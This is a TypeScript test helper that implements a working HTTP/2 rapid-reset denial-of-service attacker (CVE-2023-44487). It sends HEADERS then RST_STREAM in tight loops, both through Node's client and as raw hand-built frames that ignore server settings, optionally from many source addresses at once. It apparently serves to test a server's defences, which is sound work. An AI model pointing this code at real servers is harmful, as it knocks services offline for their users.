import http2 from "node:http2";
import net from "node:net";
import { fileURLToPath } from "node:url";

/**
 * An HTTP/2 rapid-reset attacker (CVE-2023-44487): from one connection at a time, HEADERS then
 * RST_STREAM(CANCEL) in a tight loop, reconnecting whenever the server ends the connection. Run it
 * in a process of its own (`node --import tsx test/helpers/rapid-reset.ts '<json options>'`; it
 * prints its RapidResetReport as JSON) so that its loop does not share an event loop with the
 * server or with the clients whose latency a test measures.
 *
 * Two ways to send the frames:
 * - "client": node:http2's own client (request, then close with CANCEL), as an outside attacker
 *   would. nghttp2 on the client side obeys the server's SETTINGS.
 * - "raw": hand-written frames on a plain socket (HPACK literals, no client-side limits, no
 *   reading of the server's frames but GOAWAY), i.e. what an attacker who ignores every setting
 *   sends.
 */
export interface RapidResetOptions {
  readonly url: string;
  readonly durationMs: number;
  readonly mode: "client" | "raw";
  /** What each stream asks for (GET, END_STREAM on the HEADERS). */
  readonly path: string;
  /** Streams opened and reset per turn of the attacker's event loop. */
  readonly batch?: number;
  /**
   * The attacker's own address (any 127.x.y.z reaches a server on 127.0.0.1), so that the
   * server's per-address limits tell it apart from the clients a test measures.
   */
  readonly localAddress?: string;
  /**
   * Attack from each of these addresses at once (one connection loop per address, all in this
   * process), as many machines would; overrides localAddress.
   */
  readonly localAddresses?: readonly string[];
}

export interface RapidResetReport {
  /** Streams whose HEADERS were sent (each followed by its RST_STREAM). */
  readonly streams: number;
  readonly connections: number;
  /** GOAWAY frames received, by error code name (ENHANCE_YOUR_CALM, …). */
  readonly goaways: Record<string, number>;
  /** Connections the server refused or reset before a GOAWAY. */
  readonly refusedConnections: number;
  readonly ms: number;
}

const codeNames = new Map<number, string>(
  Object.entries(http2.constants)
    .filter(
      ([name]) =>
        name.startsWith("NGHTTP2_") &&
        !name.startsWith("NGHTTP2_SESSION") &&
        !name.startsWith("NGHTTP2_STREAM_STATE") &&
        !name.startsWith("NGHTTP2_FLAG") &&
        !name.startsWith("NGHTTP2_HCAT") &&
        !name.startsWith("NGHTTP2_NV") &&
        !name.startsWith("NGHTTP2_ERR") &&
        !name.startsWith("NGHTTP2_DEFAULT"),
    )
    .map(([name, value]) => [value as number, name.slice("NGHTTP2_".length)]),
);
function codeName(code: number): string {
  return codeNames.get(code) ?? `code ${code}`;
}

export async function rapidReset(options: RapidResetOptions): Promise<RapidResetReport> {
  const started = performance.now();
  const deadline = started + options.durationMs;
  const tally = { streams: 0, connections: 0, goaways: {} as Record<string, number>, refusedConnections: 0 };
  const attackOnce = options.mode === "raw" ? rawConnection : clientConnection;
  const addresses = options.localAddresses ?? [options.localAddress];
  await Promise.all(
    addresses.map(async (localAddress) => {
      const from = { ...options, localAddress };
      while (performance.now() < deadline) {
        tally.connections++;
        await attackOnce(from, deadline, tally);
      }
    }),
  );
  return { ...tally, ms: Math.round(performance.now() - started) };
}

type Tally = { streams: number; goaways: Record<string, number>; refusedConnections: number };

/** One connection through node:http2's client; resolves when it is closed (by the server, or at the deadline). */
function clientConnection(options: RapidResetOptions, deadline: number, tally: Tally): Promise<void> {
  const batch = options.batch ?? 50;
  return new Promise((resolve) => {
    const url = new URL(options.url);
    const session = http2.connect(options.url, {
      createConnection: () =>
        net.connect({
          port: Number(url.port),
          host: url.hostname,
          ...(options.localAddress ? { localAddress: options.localAddress } : {}),
        }),
    });
    let sawGoaway = false;
    let ended = false;
    session.on("error", () => undefined);
    session.on("goaway", (code: number) => {
      sawGoaway = true;
      tally.goaways[codeName(code)] = (tally.goaways[codeName(code)] ?? 0) + 1;
      // Told to go away: start over on a new connection at once.
      session.destroy();
    });
    session.on("close", () => {
      ended = true;
      if (!sawGoaway) tally.refusedConnections++;
      resolve();
    });
    const turn = () => {
      if (ended || session.closed || session.destroyed) return;
      if (performance.now() >= deadline) return void session.destroy();
      for (let i = 0; i < batch; i++) {
        let stream: http2.ClientHttp2Stream;
        try {
          stream = session.request({ ":method": "GET", ":path": options.path }, { endStream: true });
        } catch {
          return; // the session is going away
        }
        stream.on("error", () => undefined);
        stream.close(http2.constants.NGHTTP2_CANCEL);
        tally.streams++;
      }
      setImmediate(turn);
    };
    session.once("connect", turn);
    // A server that stops reading leaves the loop waiting: the deadline ends the connection anyway.
    const stop = setTimeout(() => session.destroy(), Math.max(0, deadline - performance.now()));
    session.once("close", () => clearTimeout(stop));
  });
}

const FRAME_HEADERS = 0x1;
const FRAME_RST_STREAM = 0x3;
const FRAME_SETTINGS = 0x4;
const FRAME_GOAWAY = 0x7;
const FLAG_END_STREAM = 0x1;
const FLAG_END_HEADERS = 0x4;
const FLAG_ACK = 0x1;
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK: ":method: GET" and ":scheme: http" from the static table, ":path" and ":authority" as literals without indexing. */
function headerBlock(path: string, authority: string): Buffer {
  const literal = (index: number, value: string) => {
    const bytes = Buffer.from(value, "latin1");
    if (bytes.length > 126) throw new Error("the raw attacker's header values must be under 127 bytes");
    return Buffer.concat([Buffer.from([index, bytes.length]), bytes]);
  };
  return Buffer.concat([Buffer.from([0x82, 0x86]), literal(0x04, path), literal(0x01, authority)]);
}

/** One connection speaking raw frames; resolves when the server closes it or at the deadline. */
function rawConnection(options: RapidResetOptions, deadline: number, tally: Tally): Promise<void> {
  const batch = options.batch ?? 100;
  const url = new URL(options.url);
  const block = headerBlock(options.path, url.host);
  const cancel = Buffer.alloc(4);
  cancel.writeUInt32BE(http2.constants.NGHTTP2_CANCEL);
  return new Promise((resolve) => {
    const socket = net.connect({
      port: Number(url.port),
      host: url.hostname,
      ...(options.localAddress ? { localAddress: options.localAddress } : {}),
    });
    let nextStreamId = 1;
    let sawGoaway = false;
    let ended = false;
    let received: Buffer = Buffer.alloc(0);
    socket.on("error", () => undefined);
    // Only GOAWAY is read (to count its code); everything else the server sends is dropped.
    socket.on("data", (chunk: Buffer) => {
      received = received.length === 0 ? chunk : Buffer.concat([received, chunk]);
      while (received.length >= 9) {
        const length = received.readUIntBE(0, 3);
        if (received.length < 9 + length) break;
        if (received[3] === FRAME_GOAWAY && length >= 8) {
          sawGoaway = true;
          const code = codeName(received.readUInt32BE(9 + 4));
          tally.goaways[code] = (tally.goaways[code] ?? 0) + 1;
          // Told to go away: start over on a new connection at once.
          socket.destroy();
          return;
        }
        received = received.subarray(9 + length);
      }
    });
    socket.on("close", () => {
      ended = true;
      if (!sawGoaway) tally.refusedConnections++;
      resolve();
    });
    const turn = () => {
      if (ended || socket.destroyed) return;
      if (performance.now() >= deadline) return void socket.destroy();
      const frames: Buffer[] = [];
      for (let i = 0; i < batch && nextStreamId < 0x7fffffff; i++) {
        frames.push(frame(FRAME_HEADERS, FLAG_END_HEADERS | FLAG_END_STREAM, nextStreamId, block));
        frames.push(frame(FRAME_RST_STREAM, 0, nextStreamId, cancel));
        nextStreamId += 2;
        tally.streams++;
      }
      // Back-pressure from the socket is the attacker's only brake.
      if (socket.write(Buffer.concat(frames))) setImmediate(turn);
      else socket.once("drain", turn);
    };
    socket.once("connect", () => {
      socket.write(
        Buffer.concat([
          PREFACE,
          frame(FRAME_SETTINGS, 0, 0, Buffer.alloc(0)),
          frame(FRAME_SETTINGS, FLAG_ACK, 0, Buffer.alloc(0)),
        ]),
      );
      turn();
    });
    const stop = setTimeout(() => socket.destroy(), Math.max(0, deadline - performance.now()));
    socket.once("close", () => clearTimeout(stop));
  });
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const options = JSON.parse(process.argv[2] ?? "{}") as RapidResetOptions;
  // The parent starts measuring when this line arrives, not while this process is still loading.
  process.stderr.write("attacking\n");
  const report = await rapidReset(options);
  process.stdout.write(`${JSON.stringify(report)}\n`);
}
